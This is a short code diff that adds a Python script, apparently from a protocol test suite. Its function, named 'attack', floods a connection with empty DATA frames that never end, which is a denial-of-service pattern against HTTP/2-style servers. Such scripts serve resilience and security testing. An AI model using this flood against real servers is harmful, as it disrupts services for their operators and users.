@@ -1,0 +1,10 @@
+"""Sends empty DATA frames without an end."""
+
+from wire import DATA, frame, serve
+
+
+def attack(wire, ask):
+    wire.flood(frame(DATA, 0, wire.play))
+
+
+serve(attack)
